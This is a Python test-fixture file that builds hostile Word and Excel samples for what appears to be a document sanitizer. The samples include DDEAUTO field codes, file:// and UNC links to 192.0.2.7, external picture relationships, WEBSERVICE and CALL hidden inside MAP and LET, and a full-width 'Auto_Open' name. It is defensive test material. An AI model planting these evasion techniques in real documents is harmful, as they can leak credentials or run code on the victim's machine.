"""Office files that hide what they run from one who looks for it by name: found by the red team, each passed or broke something once."""

# ruff: noqa: E501 - lines of XML stay whole

from __future__ import annotations

from samples.build._ooxml_excel import formula_cell, row, text_cell, workbook
from samples.build._ooxml_word import complex_field, paragraph, run, word
from samples.build._ooxml_word_hostile import picture
from samples.build._opc import Link
from samples.sample import Sample

_BEGIN, _SEPARATE, _END = (run(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ("begin", "separate", "end"))


def _code(text: str) -> str:
    return run(f'<w:instrText xml:space="preserve">{text}</w:instrText>')


def _field(code: str) -> str:
    return f"<w:p>{_BEGIN}{code}{_SEPARATE}{run('<w:t>結果</w:t>')}{_END}</w:p>"


def hidden_fields() -> bytes:
    """Codes in w:t, a code that a field writes, links behind switches, links that a field computes."""
    written = complex_field("QUOTE &quot;DDEAUTO&quot;", "DDEAUTO") + _code(" c:\\\\evilmark.exe")
    computed = _code("HYPERLINK ") + complex_field("QUOTE &quot;file:///evilmark&quot;", "file:///evilmark")
    behind = _code("HYPERLINK \\o &quot;https://ok.example.invalid/&quot; &quot;file://192.0.2.7/evilmark&quot;")
    place = _code("HYPERLINK \\l &quot;a&quot; &quot;\\\\192.0.2.7\\evilmark&quot;")
    fields = (run("<w:t>DDEAUTO c:\\\\evilmark.exe</w:t>"), written, computed, behind, place)
    return word(paragraph("本文は残る") + "".join(map(_field, fields))).build()


def picture_behind_a_link() -> bytes:
    """A picture, and a place in the document, that lead outside through a hyperlink's relationship."""
    body = f"<w:p>{picture('r:embed=' + chr(34) + 'rIdLink' + chr(34))}</w:p>"
    body += '<w:p><w:hyperlink w:anchor="file://192.0.2.7/evilmark"><w:r><w:t>文字は残る</w:t></w:r></w:hyperlink></w:p>'
    return word(body, Link("rIdLink", "hyperlink", "http://192.0.2.7/evilmark", external=True)).build()


def named_functions() -> bytes:
    """Functions that are named and not called, a place that is a share, names of macros in disguise."""
    formulas = (
        "_xlfn.MAP(&quot;http://192.0.2.7/evilmark&quot;,_xleta.WEBSERVICE)",
        "_xlfn.LET(_xlpm.f,CALL,_xlpm.f(&quot;evilmark&quot;,&quot;x&quot;,&quot;J&quot;))",
        "HYPERLINK(&quot;#&quot;&amp;&quot;\\\\192.0.2.7\\evilmark&quot;,&quot;開く&quot;)",
        "'\\\\192.0.2.7\\evilmark.xlsx'!name",
    )
    rows = row(1, text_cell("A1", "残る値")) + "".join(
        row(number, formula_cell(f"A{number}", formula, "7")) for number, formula in enumerate(formulas, 2)
    )
    names = (
        '<definedName name="Ａuto_Open">LEN("evilmark")</definedName><definedName name="CALL">_xlfn.LAMBDA(_xlpm.x,1)</definedName>'
    )
    links = '<hyperlinks><hyperlink ref="A1" location="\\\\192.0.2.7\\evilmark"/></hyperlinks>'
    return workbook(rows, names=names, after=links).build()


_GONE = (b"evilmark",)
SAMPLES = (
    Sample("hostile/ooxml/hidden_fields.docx", "hostile", "ooxml", "field codes where nobody looks for them", hidden_fields, ("ooxml.field", "ooxml.dde", "ooxml.link_target"), keeps=("本文は残る", "結果"), gone=_GONE),
    Sample("hostile/ooxml/picture_behind_a_link.docx", "hostile", "ooxml", "picture loaded through the relationship of a hyperlink", picture_behind_a_link, ("ooxml.link_target",), keeps=("文字は残る",), gone=_GONE),
    Sample("hostile/ooxml/named_functions.xlsx", "hostile", "ooxml", "functions passed to LAMBDA helpers, places that are shares, disguised Auto_Open", named_functions, ("ooxml.formula_function", "ooxml.link_target", "ooxml.macro_name", "ooxml.external_link"), keeps=("残る値",), gone=_GONE),
)  # fmt: skip
